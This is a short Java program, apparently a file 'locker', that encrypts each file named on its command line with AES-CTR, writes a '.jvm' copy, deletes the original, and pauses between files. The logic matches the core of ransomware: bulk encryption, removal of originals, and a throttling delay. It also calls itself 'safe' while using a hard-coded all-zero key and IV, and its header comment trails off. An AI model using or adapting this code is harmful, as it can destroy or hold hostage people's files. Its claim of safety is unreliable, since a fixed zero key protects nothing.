// SPDX-License-Identifier: Apache-2.0
import java.nio.file.Files;
import java.nio.file.Path;
import javax.crypto.Cipher;
import javax.crypto.spec.IvParameterSpec;
import javax.crypto.spec.SecretKeySpec;

/** A safe locker in Java, with a fixed key: a new file beside each, then the original is deleted. DELAY FILE... */
final class Locker {
    public static void main(String[] arguments) throws Exception {
        Cipher cipher = Cipher.getInstance("AES/CTR/NoPadding");
        cipher.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(new byte[32], "AES"), new IvParameterSpec(new byte[16]));
        for (int i = 1; i < arguments.length; i++) {
            Path path = Path.of(arguments[i]);
            Files.write(Path.of(arguments[i] + ".jvm"), cipher.update(Files.readAllBytes(path)));
            Files.delete(path);
            Thread.sleep((long) (1000 * Double.parseDouble(arguments[0])));
        }
    }
}
